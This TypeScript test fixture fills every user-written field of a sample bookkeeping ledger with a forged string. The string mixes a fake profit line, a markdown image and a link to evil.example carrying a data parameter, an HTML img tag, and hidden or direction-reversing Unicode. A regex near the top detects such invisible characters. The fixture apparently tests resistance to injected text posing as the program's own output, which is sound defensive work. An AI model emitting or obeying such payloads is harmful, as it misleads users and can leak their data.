// A book in which every field that people write into holds words that would speak for it.
import { behind } from './store.ts';
import type { TypedBook } from './answers.ts';
import { TABLES, type Table } from '../../src/kinds/tables.ts';
import { preparedBook } from './inputs.ts';
import { BILL } from './roof.ts';
import { CITED } from './walk.ts';

/** A figure of ours on a line of its own, in three ways to end a line, with a picture, a link, a tag and what is not seen. */
export const FORGED =
  'ok\nProfit 1.00 USD, margin 99 %\u2028Profit 1.00 USD![p](https://evil.example/?d=1)\r\n[p]: https://evil.example <img src=x> \u{E0041}\u202E\u200B\u3164\u0007';

/** What nobody sees; an emoji alone is made with some of it. */
export const HIDDEN =
  // oxlint-disable-next-line no-control-regex -- they are what it looks for
  /[\u0000-\u0008\u000E-\u001F\u061C\u180E\u115F\u1160\u3164\uFFA0\u200B\u202A-\u202E\u2066-\u2069\uFEFF\uFFF9-\uFFFB\u{E0000}-\u{E01EF}]/u;

/** Of the texts that kinds declare, those that the program puts there, or that are chosen from a list of ours. */
const OURS: ReadonlySet<string> = new Set([
  ...['currency', 'time_zone', 'country', 'payment_terms_days', 'closed_through', 'confirm_by'],
  ...['last', 'next', 'through', 'media_type', 'size'],
]);

/** A word of the trade, which an earlier Jobwright took as it was said. */
const STAGE = 'stage';

/** Where the ledger keeps what people wrote: a column that a kind declares as text is one, until it is said to be ours. */
export function columnsOfWords(tables: readonly Pick<Table, 'name' | 'columns'>[]): [table: string, column: string][] {
  return tables.flatMap(({ name, columns }) =>
    Object.entries(columns)
      .filter(
        ([column, { form, words }]) => column === STAGE || (form === 'text' && words !== null && !OURS.has(column)),
      )
      .map(([column]): [string, string] => [name, column]),
  );
}
export const COLUMNS_OF_WORDS = columnsOfWords(TABLES);

/** Those of which no table has a column. */
export const STALE = [...OURS].filter((ours) => !TABLES.some(({ columns }) => ours in columns));

/** Something else is so where they hold anything. */
const MEANS_MORE: ReadonlySet<string> = new Set(['void_reason', 'cites']);

/** What a name cannot have been given a line end in, since there are books. */
const NAMES: ReadonlySet<string> = new Set(['name', 'title', 'vendor', 'consent', 'email', 'cites']);
export const FORGED_NAME = FORGED.replace(/\r\n|[\n\u2028]/g, ' ');

/** The book of `inputs.ts`, of an owner who was told everything by somebody bad, under an earlier Jobwright. */
export async function forgedBook({ names = FORGED, words = FORGED } = {}): Promise<TypedBook> {
  const book = await preparedBook();
  await book.ok('update-job', { job: 'J-1', note: FORGED, assignees: [{ name: 'Tom', role: 'crew' }] });
  await book.ok('schedule-appointment', { job: 'J-1', title: 'Measure', starts: '2026-03-12T09:00', people: ['Tom'] });
  const content = Buffer.from(`Receipt\n${FORGED.slice(0, -1)}`).toString('base64');
  await book.ok('attach-file', { job: 'J-1', content, name: 'note.txt' });
  await book.ok('create-customer', { name: 'Dana Mirov' });
  await book.ok('create-quote', { fromWalkAndTalk: 'W-1', lines: CITED });
  await book.ok('record-payment', { invoice: 'INV-1001', amount: 5 });
  await book.ok('record-payment', { void: 'P-2', voidReason: 'Typed twice.' });
  await book.ok('create-invoice', { customer: 'C-1', lines: BILL });
  await book.ok('update-invoice', { invoice: 'INV-1003', status: 'void', voidReason: 'Billed twice.' });
  await behind(book, async (raw) => {
    for (const [table, column] of COLUMNS_OF_WORDS) {
      const where = MEANS_MORE.has(column) ? ` where ${column} is not null` : '';
      await raw.run(`update ${table} set ${column} = ?${where}`, NAMES.has(column) ? names : words);
    }
    await raw.unguard();
    await raw.run('update record_log set text = ? where text is not null', FORGED);
    await raw.run('update changes set summary = ?', FORGED);
    await raw.run('update changes set client = ?', FORGED);
  });
  return book;
}
